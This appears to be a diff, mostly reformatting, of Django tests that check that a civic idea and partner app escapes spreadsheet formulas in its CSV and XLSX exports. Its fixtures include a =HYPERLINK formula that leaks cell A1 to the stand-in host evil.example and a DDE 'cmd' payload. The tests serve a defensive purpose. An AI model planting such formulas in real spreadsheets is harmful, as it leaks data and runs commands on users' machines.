@@ -4,6 +4,7 @@ Each export gets a `=HYPERLINK(...)` (and friends) where a user or an administra
 it; the cell must arrive with the apostrophe that makes a spreadsheet read it as text, and an
 Excel cell must be a string, never a formula.
 """
+
 import csv
 import io
 
@@ -28,17 +29,29 @@ pytestmark = pytest.mark.django_db
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
 
 
-@pytest.mark.parametrize("text", [
-    LINK, "+46 70 123", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "   =1+1", "\t=1+1",
-    " \t @SUM(1)", "\tnågot", "\rnågot", "\n -1",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        LINK,
+        "+46 70 123",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "   =1+1",
+        "\t=1+1",
+        " \t @SUM(1)",
+        "\tnågot",
+        "\rnågot",
+        "\n -1",
+    ],
+)
 def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
     assert spreadsheet_cell(text) == "'" + text
     assert spreadsheet_value(spreadsheet_cell(text)) == text
 
 
-@pytest.mark.parametrize("value", ["Fiber till byn", "e-post: a@b.se", "1-2 dagar", "", "'citat",
-                                   5, -3, 2.5])
+@pytest.mark.parametrize(
+    "value", ["Fiber till byn", "e-post: a@b.se", "1-2 dagar", "", "'citat", 5, -3, 2.5]
+)
 def test_ordinary_values_stay_as_they_are(value):
     assert spreadsheet_cell(value) == value
     assert spreadsheet_value(value) == value
@@ -57,10 +70,11 @@ def xlsx_rows(response) -> list[list]:
 
 
 def test_the_partner_registry_export_keeps_formulas_as_text_and_imports_back_unchanged(
-    coordinator_client
+    coordinator_client,
 ):
-    partner = PartnerFactory(slug="formel", name="@Föreningen", description=LINK,
-                             phone="+46 580 123 45")
+    partner = PartnerFactory(
+        slug="formel", name="@Föreningen", description=LINK, phone="+46 580 123 45"
+    )
 
     for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
         response = coordinator_client.get(reverse("partners:export", args=[file_format]))
@@ -71,21 +85,25 @@ def test_the_partner_registry_export_keeps_formulas_as_text_and_imports_back_unc
         assert values["phone"] == "'+46 580 123 45"
 
     exported = b"".join(coordinator_client.get(reverse("partners:export", args=["csv"])))
-    preview = coordinator_client.post(reverse("partners:import"),
-                                      {"file": SimpleUploadedFile("again.csv", exported)})
-    coordinator_client.post(reverse("partners:import_confirm"),
-                            {"token": preview.context["token"]})
+    preview = coordinator_client.post(
+        reverse("partners:import"), {"file": SimpleUploadedFile("again.csv", exported)}
+    )
+    coordinator_client.post(reverse("partners:import_confirm"), {"token": preview.context["token"]})
     partner = Partner.objects.get(pk=partner.pk)
     assert (partner.description, partner.name, partner.phone) == (
-        LINK, "@Föreningen", "+46 580 123 45")
+        LINK,
+        "@Föreningen",
+        "+46 580 123 45",
+    )
 
 
 def test_the_dashboard_export_keeps_formulas_as_text(coordinator_client):
     IdeaFactory(title="Bybuss", description=LINK, need="  -1+1", submitter_name="@Anna")
 
     for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
-        response = coordinator_client.get(reverse("triage:export", args=[file_format]),
-                                          {"personal": "1"})
+        response = coordinator_client.get(
+            reverse("triage:export", args=[file_format]), {"personal": "1"}
+        )
         header, row = read(response)[:2]
         values = dict(zip(header, row, strict=False))
         assert values["Idén"] == "'" + LINK, file_format
@@ -117,14 +135,17 @@ def test_the_open_data_export_keeps_formulas_as_text(committee_client):
     assert all(not cell.startswith("=") for row in rows for cell in row)
 
 
-@pytest.mark.parametrize(("url", "file_format"), [
-    (reverse_lazy("partners:export", args=["csv"]), "csv"),
-    (reverse_lazy("partners:export", args=["xlsx"]), "xlsx"),
-    (reverse_lazy("triage:export", args=["csv"]), "csv"),
-    (reverse_lazy("triage:export", args=["xlsx"]), "xlsx"),
-    (reverse_lazy("triage:meeting_csv"), "csv"),
-    (reverse_lazy("triage:open_data_csv"), "csv"),
-])
+@pytest.mark.parametrize(
+    ("url", "file_format"),
+    [
+        (reverse_lazy("partners:export", args=["csv"]), "csv"),
+        (reverse_lazy("partners:export", args=["xlsx"]), "xlsx"),
+        (reverse_lazy("triage:export", args=["csv"]), "csv"),
+        (reverse_lazy("triage:export", args=["xlsx"]), "xlsx"),
+        (reverse_lazy("triage:meeting_csv"), "csv"),
+        (reverse_lazy("triage:open_data_csv"), "csv"),
+    ],
+)
 def test_every_export_is_sent_with_the_one_content_type_of_its_format(
     coordinator_client, url, file_format
 ):
